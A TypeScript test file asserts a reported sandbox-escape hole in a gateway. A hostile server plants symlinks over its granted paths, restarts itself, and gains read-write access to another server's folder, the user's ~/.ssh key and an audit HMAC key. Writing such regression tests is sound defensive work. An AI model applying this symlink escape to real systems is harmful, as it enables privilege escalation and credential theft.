/**
 * KNOWN HOLE (reported), asserted as it is today so that a fix turns this file red: a server that
 * may write a folder can plant a symlink where one of its OTHER grants (an argument path, or a read
 * grant two levels down) lies, end itself, and be restarted by the gateway with the symlink's
 * target granted, because every start plans the sandbox anew and `checkGrant` follows a symlink
 * in the last path component (only symlinked parents are refused). Here it gains the other
 * server's folder read-write and the gateway user's `~/.ssh`. When the hole is closed, flip the
 * expectations to `false` (or to "the start is refused").
 */
import { chownSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';

import type { EscapeGateway } from './helpers/escape-gateway.js';
import { eventually, startEscapeGateway } from './helpers/escape-gateway.js';
import { escapeSuiteUnavailable, expectEscaped } from './helpers/escape-suite.js';
import type { EscapeWorld, Variant } from './helpers/escape-world.js';
import { buildEscapeWorld, GATEWAY_USER, NOBODY } from './helpers/escape-world.js';

const unavailable = escapeSuiteUnavailable();

type Json = Record<string, any>;

interface InnerGrants {
  /** Argument files inside the writable work folder (covered by it, so not mount points). */
  readonly argFile: string;
  readonly keyFile: string;
  /** A read grant two levels below the writable folder. */
  readonly nested: string;
}

/** Adds argument files and a nested read grant inside the hostile server's writable folder. */
function addInnerGrants(world: EscapeWorld, variant: Variant): InnerGrants {
  const uid = variant === 'unprivileged' ? GATEWAY_USER : NOBODY;
  const argFile = path.join(world.work, 'data.json');
  const keyFile = path.join(world.work, 'key.json');
  const nested = path.join(world.work, 'a', 'b');
  writeFileSync(argFile, '{}');
  writeFileSync(keyFile, '{}');
  mkdirSync(nested, { recursive: true });
  for (const p of [argFile, keyFile, path.dirname(nested), nested]) chownSync(p, uid, uid);
  const config = parse(readFileSync(world.configFile, 'utf8')) as Json;
  const hostile = config.servers.hostile as Json;
  hostile.args = [...(hostile.args as string[]), argFile, keyFile];
  hostile.sandbox = { ...(hostile.sandbox as Json), read: [nested] };
  writeFileSync(world.configFile, stringify(config));
  return { argFile, keyFile, nested };
}

for (const variant of ['root', 'unprivileged'] as const) {
  describe.skipIf(unavailable !== undefined)(`grants re-resolved at a restart (${variant})`, () => {
    let world: EscapeWorld | undefined;
    let gateway: EscapeGateway | undefined;
    let inner: InnerGrants | undefined;
    beforeAll(async () => {
      world = await buildEscapeWorld(variant);
      inner = addInnerGrants(world, variant);
      gateway = await startEscapeGateway({
        configFile: world.configFile,
        stateDir: world.stateDir,
        env: world.gatewayEnv,
        ...(world.runAs === undefined ? {} : { runAs: world.runAs }),
      });
    }, 60_000);
    afterAll(async () => {
      await gateway?.stop();
      await world?.close();
    });

    it(
      'KNOWN HOLE (reported): a planted symlink becomes a grant of its target at the next start',
      { timeout: 60_000 },
      async () => {
        const w = world!;
        const gw = gateway!;
        const { argFile, keyFile, nested } = inner!;
        const readOther = { path: w.otherCanary.path, expect: w.otherCanary.value };
        const readKey = { path: w.sshKey.path, expect: w.sshKey.value };
        expectEscaped(await gw.attempt('hostile', 'read_file', readOther), false, 'before');
        expectEscaped(await gw.attempt('hostile', 'read_file', readKey), false, 'before');

        await gw.attempt('hostile', 'replace_with_symlink', { path: argFile, target: w.otherDir });
        const home = path.dirname(w.sshKey.path);
        await gw.attempt('hostile', 'replace_with_symlink', { path: nested, target: home });
        // Only the unprivileged gateway's state folder is reachable by the sandbox's uid at all
        // (as root, a grant under the 0700 state folder is refused and the server stays down).
        const hmacKey = path.join(w.stateDir, 'audit-hmac.key');
        if (variant === 'unprivileged') {
          await gw.attempt('hostile', 'replace_with_symlink', { path: keyFile, target: hmacKey });
        }
        const first = (await gw.attempt('hostile', 'whoami')).instance;
        expect(await gw.attemptOrNoAnswer('hostile', 'exit', { code: 3 })).toHaveProperty(
          'noAnswer',
        );
        // The gateway restarts the server on its own; wait until the new one answers.
        await eventually(async () => {
          const who = await gw.attemptOrNoAnswer('hostile', 'whoami');
          return 'noAnswer' in who || who.instance === first ? undefined : true;
        }, 'the restarted hostile server');

        // Today: the other server's folder is granted read-write, the ssh folder read-only.
        expectEscaped(await gw.attempt('hostile', 'read_file', readOther), true, 'after restart');
        const planted = path.join(w.otherDir, 'planted-by-hostile.txt');
        const write = await gw.attempt('hostile', 'write_file', { path: planted, content: 'x' });
        expectEscaped(write, true, "writing into the other server's folder");
        expect(readFileSync(planted, 'utf8')).toBe('x');
        expectEscaped(await gw.attempt('hostile', 'read_file', readKey), true, '~/.ssh/id_rsa');
        if (variant === 'unprivileged') {
          // A file INSIDE the state folder is not refused (only grants that contain the folder).
          const key = readFileSync(hmacKey, 'utf8').trim();
          const stolen = await gw.attempt('hostile', 'read_file', { path: hmacKey, expect: key });
          expectEscaped(stolen, true, "the audit log's HMAC key");
        }
      },
    );
  });
}
